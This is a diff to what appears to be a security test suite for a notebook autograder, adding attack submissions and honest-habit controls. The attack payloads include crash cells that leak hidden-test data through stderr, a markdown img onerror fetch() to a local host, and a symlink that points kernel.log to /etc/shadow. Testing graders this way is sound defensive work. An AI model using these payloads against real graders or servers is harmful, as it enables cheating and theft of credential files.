@@ -639,7 +639,7 @@ def relu(x):
     s = _leak("relu-hidden" if globals().get("_AFTER_END") else "relu", x)
     if globals().get("_AFTER_END"):
         os.write(2, ("Fatal Python error: " + s + "\n").encode() * 3)
-        os.kill(os.getpid(), signal.SIGSEGV)
+        os._exit(139)   # the kernel is PID 1 of its namespace: its own SIGSEGV is ignored
     return np.maximum(x, 0)
 ''', "+score_notebook": "_AFTER_END = True\n"})
 
@@ -667,7 +667,7 @@ def _maybe_crash(tag, x):
     s = _leak(tag + ("-hidden" if globals().get("_AFTER_END") else ""), x)
     if globals().get("_AFTER_END"):
         os.write(2, ("Fatal Python error: " + s + "\n").encode() * 3)
-        os.kill(os.getpid(), signal.SIGSEGV)
+        os._exit(139)   # the kernel is PID 1 of its namespace: its own SIGSEGV is ignored
 
 
 def relu(x):
@@ -829,3 +829,41 @@ ATTACKS["03_feedback_metadata"] = ("03", {
     "=md": "![pic](attachment:a%22%20onerror=%22fetch('http://127.0.0.1:18953/attach')%22.png) "
            "<img src=\"attachment:x.png\" onerror=\"fetch('http://127.0.0.1:18953/attach2')\">\n",
 })
+
+# honest answers among ordinary notebook habits: these must keep full marks, unflagged, without notes
+ATTACKS["04_honest_habits"] = ("04", {
+    "+start": "%load_ext autoreload\n%autoreload 2\n%matplotlib inline\nimport sys\nimport warnings\n"
+              "sys.setrecursionlimit(5000)\nwarnings.filterwarnings('ignore')\n",
+    "flatten": "import numpy as np\n\n\ndef flatten(x):\n    return x.reshape(x.shape[0], -1)\n",
+    "+test_flatten_input_unchanged": "%timeit flatten(np.zeros((8, 3, 4, 4)))\nimport inspect\nprint(inspect.getsource(flatten))\n",
+    "affine_forward": "def affine_forward(x, w, b):\n    return flatten(x) @ w + b\n",
+    "softmax": "def softmax(scores):\n    e = np.exp(scores - scores.max(axis=1, keepdims=True))\n    return e / e.sum(axis=1, keepdims=True)\n",
+    "+test_softmax_input_unchanged": "%%time\nold = np.seterr(all='ignore')\n_probe = softmax(np.random.default_rng(0).standard_normal((4, 3)))\nnp.seterr(**old)\nprint(_probe.sum(axis=1))\n",
+    "cross_entropy_loss": "def cross_entropy_loss(scores, y):\n    s = scores - scores.max(axis=1, keepdims=True)\n"
+                          "    logp = s - np.log(np.exp(s).sum(axis=1, keepdims=True))\n    return float(-logp[np.arange(len(y)), y].mean())\n",
+    "squared_error": "def squared_error(probs, targets):\n    return float(0.5 * ((targets - probs) ** 2).sum(axis=1).mean())\n",
+})
+
+# the kernel's run folder is shared with the worker, which may read kernel.log (the kernel's stdout) when the
+# kernel dies: replace it with a link to a file only root can read, then die
+RUNFOLDER = r'''
+import os, signal, sys
+os.chdir(os.path.expanduser("~"))
+print("run folder:", os.getcwd(), os.listdir("."))
+for name, target in [("kernel.log", "/etc/shadow"), ("kernel.json.bak", "/etc/shadow")]:
+    try:
+        if os.path.lexists(name):
+            os.remove(name)
+        os.symlink(target, name)
+        print("linked", name, "->", target)
+    except Exception as e:
+        print("link", name, e)
+try:
+    os.mkfifo("stderr.fifo")
+except Exception as e:
+    print(e)
+sys.stdout.flush()
+os.write(2, b"about to die\n")
+os._exit(139)       # PID 1 of its namespace ignores its own SIGSEGV: leave by exit
+'''
+ATTACKS["03_runfolder_links"] = ("03", {"+test_relu_input_unchanged": RUNFOLDER})
